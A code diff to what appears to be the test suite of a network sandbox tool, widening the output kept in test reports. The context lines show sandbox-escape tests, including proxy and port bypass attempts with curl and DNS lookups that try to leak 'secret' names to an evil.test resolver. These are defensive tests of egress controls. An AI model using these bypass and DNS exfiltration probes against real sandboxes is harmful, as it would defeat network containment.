@@ -156,16 +156,16 @@ def ports(t):
         if good is None and "hello" not in outside:
             continue
         if "hello" not in outside:
-            t.report("bypasses/" + name, False, "does not work outside either: " + outside[-300:])
+            t.report("bypasses/" + name, False, "does not work outside either: " + outside[-2000:])
             continue
         status, out = t.box(flags, command)
-        t.report("bypasses/" + name, ("hello" in out) == (good is not False), (status, out[-300:]))
+        t.report("bypasses/" + name, ("hello" in out) == (good is not False), (status, out[-2000:]))
     for name, flags, command, words in (("told-443", t.allow, "curl --noproxy '*' -sS -m 60 http://ok.test:443/", "only TLS may flow on port 443); allow other protocols with --allow ok.test:443/tcp"),
                                         ("told-80", t.allow, "curl -k --noproxy '*' -sS -m 60 https://ok.test:80/", "only HTTP may flow on port 80); allow other protocols with --allow ok.test:80/tcp"),
                                         ("address-beside-a-denied-name", ["--allow", "*", "--deny", "other.test"], f"curl --noproxy '*' -sS -m 60 http://{t.public}:8448/", "denied (default); allow with --allow " + t.public)):
         done = subprocess.run([t.pinfold, "run", *flags, "--", "sh", "-c", command], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=90, check=False)
         out = done.stdout.decode("utf-8", "replace")
-        t.report("bypasses/" + name, words in out and "hello" not in out, out[-600:])
+        t.report("bypasses/" + name, words in out and "hello" not in out, out[-2000:])
 
 
 def run(t):
@@ -193,13 +193,13 @@ def run(t):
             t.flip()
             out = t.outside(command.replace("PORT", str(mistake)) + " 2>&1")
             if "hello" not in out:
-                t.report("bypasses/" + name, False, "does not get through a proxy with the mistake either: " + out[-300:])
+                t.report("bypasses/" + name, False, "does not get through a proxy with the mistake either: " + out[-2000:])
                 continue
             t.flip()
             status, out = t.box(flags, "timeout 20 sh -c " + quote(command.replace("PORT", "61080")) + " 2>&1; echo \"== $?\"")
-            t.report("bypasses/" + name, "hello" not in out and "== 124" not in out and "can't open file" not in out, (status, out[-300:]))
+            t.report("bypasses/" + name, "hello" not in out and "== 124" not in out and "can't open file" not in out, (status, out[-2000:]))
         _, out = t.box(t.allow, "echo | timeout 20 openssl s_client -groups P-256:P-384 -connect ok.test:8450 -servername ok.test 2>&1; echo \"== $?\"")
-        t.report("bypasses/second-hello-of-the-same-name", re.search("CN ?= ?ok.test", out) and "== 0" in out, out[-300:])
+        t.report("bypasses/second-hello-of-the-same-name", re.search("CN ?= ?ok.test", out) and "== 0" in out, out[-2000:])
         resolver(t)
         ports(t)
     finally:
@@ -230,7 +230,7 @@ def resolver(t):
     _, out = t.box(flags, f"{ask} 127.53.53.53 53 secret2.evil.test; {ask} 127.53.53.53 53 secret3.ok.test; "
                    f"{ask} 127.0.0.1 53 secret4.evil.test; {ask} {t.public} 53 secret5.evil.test; getent hosts secret6.evil.test; getent hosts secret7.ok.test")
     seen = [name for name in t.asked() if name.startswith("secret") and not name.startswith("secret1")]
-    t.report("bypasses/resolver", not seen and "Traceback" in out, (seen, out[-300:]))
+    t.report("bypasses/resolver", not seen and "Traceback" in out, (seen, out[-2000:]))
 
 
 def quote(command):
